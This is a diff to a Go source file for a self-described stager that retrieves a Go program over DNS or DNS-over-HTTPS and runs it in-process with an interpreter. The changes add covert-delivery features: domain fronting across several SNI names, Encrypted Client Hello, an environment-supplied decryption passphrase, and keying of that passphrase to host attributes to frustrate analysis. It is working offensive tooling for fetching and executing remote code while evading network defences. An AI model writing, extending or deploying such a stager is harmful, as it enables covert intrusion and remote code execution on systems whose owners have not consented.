@@ -6,12 +6,17 @@ package main
  * Stager which runs a Go program it retrieves via DNS
  * By J. Stuart McMurray
  * Created 20200817
- * Last Modified 20200817
+ * Last Modified 20261015
  */
 
 import (
+	"encoding/base64"
 	"io/ioutil"
 	"log"
+	"os"
+	"strconv"
+	"strings"
+	"time"
 
 	"github.com/containous/yaegi/interp"
 	"github.com/containous/yaegi/stdlib"
@@ -21,8 +26,21 @@ import (
 var (
 	dohURL = ""
 	dohSNI = ""
+	dohECH = ""
 	domain = ""
 	fname  = ""
+
+	/* passEnv, if set, names an environment variable holding the
+	passphrase with which the file was encrypted */
+	passEnv = ""
+
+	/* envKey, if set, is a comma-separated list of host attributes to
+	which the passphrase is keyed */
+	envKey = ""
+
+	/* maxBytes and maxDuration, if set, limit the transfer */
+	maxBytes    = ""
+	maxDuration = ""
 )
 
 func main() {
@@ -40,11 +58,54 @@ func main() {
 		Name:   fname,
 		Domain: domain,
 	}
+	if "" != maxBytes {
+		n, err := strconv.ParseUint(maxBytes, 10, 64)
+		if nil != err {
+			log.Fatalf("Parsing max bytes: %s", err)
+		}
+		g.MaxTotalBytes = n
+	}
+	if "" != maxDuration {
+		d, err := time.ParseDuration(maxDuration)
+		if nil != err {
+			log.Fatalf("Parsing max duration: %s", err)
+		}
+		g.MaxDuration = d
+	}
+	if "" != passEnv {
+		g.Passphrase = os.Getenv(passEnv)
+		if "" == g.Passphrase {
+			log.Fatalf("Missing passphrase")
+		}
+	}
+	if "" != envKey {
+		attrs, err := dnsfservget.HostEnv(strings.Split(envKey, ",")...)
+		if nil != err {
+			log.Fatalf("Getting host attributes: %s", err)
+		}
+		g.Passphrase = dnsfservget.EnvPassphrase(g.Passphrase, attrs)
+	}
 	if "" != dohURL {
 		/* Maybe even domain-front */
 		conf := dnsfservget.DOHConfig{URL: dohURL}
+		snis := strings.Split(dohSNI, ",")
 		if "" != dohSNI {
-			conf.POST = dnsfservget.BuiltinDFPOST(dohSNI)
+			conf.POST = dnsfservget.BuiltinDFPOST(
+				snis[0],
+				snis[1:]...,
+			)
+		}
+		/* Maybe even with ECH */
+		if "" != dohSNI && "" != dohECH {
+			ech, err := base64.StdEncoding.DecodeString(dohECH)
+			if nil != err {
+				log.Fatalf("Decoding ECHConfigList: %s", err)
+			}
+			conf.POST = dnsfservget.BuiltinDFECHPOST(
+				snis[0],
+				ech,
+				snis[1:]...,
+			)
 		}
 		/* Query with DoH */
 		g.Querier = dnsfservget.DOHQuerier(conf)